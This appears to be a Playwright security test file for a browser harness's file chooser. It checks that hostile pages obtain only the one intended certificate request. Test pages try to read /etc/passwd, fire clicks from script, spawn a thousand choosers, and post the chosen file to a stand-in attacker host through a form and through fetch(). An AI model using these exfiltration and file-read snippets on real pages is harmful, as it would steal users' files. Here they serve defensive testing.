// The file chooser of the page: it gives this case's request and nothing else, whoever asks and however.
import { expect } from '@playwright/test';
import { rest, test, type Probe } from './driver/probe.ts';

// A request that was handed over stays so, and changes what a later download means: no other probe meets this wizard.
test.use({ apart: 'chooser' });

/** Pressing "Choose File" hands the request over, which is a fact. */
const handedOver = { facts: ['csr-handed-over'] } as const;
const chosen = (probe: Probe, selector = 'input') =>
  probe.run(
    `return Promise.all([...document.querySelector('${selector}').files].map(async (file) => [file.name, file.webkitRelativePath, (await file.text()).slice(0, 200)]))`,
  );

test.describe('hostile: the file chooser', () => {
  for (const [name, attributes] of [
    ['that takes many files', 'multiple'],
    ['that is plain', ''],
    ['that takes other files', 'accept=".key,.sqlite"'],
    ['that is hidden', 'style="opacity:0"'],
  ] as const) {
    test(`${name} gets the one request`, async ({ probe }) => {
      // Chromium drops presses on a page that has painted nothing yet.
      const page = await probe.visit(`<p>Vendor</p><input type="file" ${attributes}>`);
      await page.locator('input').click();
      const { csr } = probe.stage.standIn;
      await expect.poll(() => chosen(probe)).toEqual([[csr.name, '', csr.buffer.toString().slice(0, 200)]]);
      await probe.unharmed(handedOver);
    });
  }

  test('after Apple refused the type of the file, the same request comes under a name that it takes', async ({
    probe,
  }) => {
    const form = '<h1>Renew Push Certificate</h1><input type="file"><button>Upload</button>';
    const page = await probe.visit(
      `<div role="alert">You have uploaded an invalid file type. Supported file extensions are .txt, .rtf, .plist, .b64</div>${form}`,
    );
    const { csr } = probe.stage.standIn;
    const name = csr.name.replace(/\.csr$/, '.csr.txt');
    // It is read a moment after it shows.
    await expect
      .poll(async () => {
        await page.locator('input').click();
        return chosen(probe);
      })
      .toEqual([[name, '', csr.buffer.toString().slice(0, 200)]]);
    await probe.unharmed(handedOver);
  });

  test('by a path that the page names', async ({ probe }) => {
    await probe.visit('<input type="file">');
    const got = await probe.run(`const input = document.querySelector('input'); const seen = [];
      try { input.value = '/etc/passwd'; } catch { seen.push('refused'); }
      const transfer = new DataTransfer(); transfer.items.add(new File(['x'], '/etc/passwd')); input.files = transfer.files; seen.push(await input.files[0].text());
      try { new FileReader().readAsText('/etc/passwd'); } catch { seen.push('refused'); }
      return seen`);
    expect(got).toEqual(['refused', 'x', 'refused']);
  });

  test('without a press nothing is handed over', async ({ probe }) => {
    await probe.visit(
      `<input type="file"><script>for (let i = 0; i < 50; i += 1) { document.querySelector('input').click(); document.querySelector('input').dispatchEvent(new MouseEvent('click')); }</script>`,
    );
    expect(await chosen(probe)).toEqual([]);
  });

  test('a thousand choosers at one press', async ({ probe }) => {
    const page = await probe.visit(
      `<button onclick="for (let i = 0; i < 1000; i += 1) { const one = document.createElement('input'); one.type = 'file'; one.click(); }">press</button>`,
    );
    await page.click('button');
    await expect.poll(() => probe.newFacts().length).toBe(1);
    await rest(500);
    expect(probe.newFacts().length).toBe(1);
    await probe.unharmed(handedOver);
  });

  test('the file sent abroad does not leave', async ({ probe }) => {
    const page = await probe.visit(
      `<form method="post" enctype="multipart/form-data" action="https://${probe.evil}/"><input type="file" name="f"><button>send</button></form>`,
    );
    await page.locator('input').click();
    await expect.poll(() => chosen(probe)).toHaveLength(1);
    await probe.run(`document.querySelector('form').submit()`);
    await probe.refused(new RegExp(`navigation ${probe.evil.replaceAll('.', '\\.')}: host`));
    await probe.run(
      `const body = new FormData(); body.append('f', document.querySelector('input').files[0]); fetch('https://fetch.${probe.evil}/', { method: 'POST', mode: 'no-cors', body }).catch(() => undefined)`,
    );
    await probe.refused(/fetch\.p\d+\.evil\.example: (host|policy)/);
    await probe.unharmed(handedOver);
  });
});
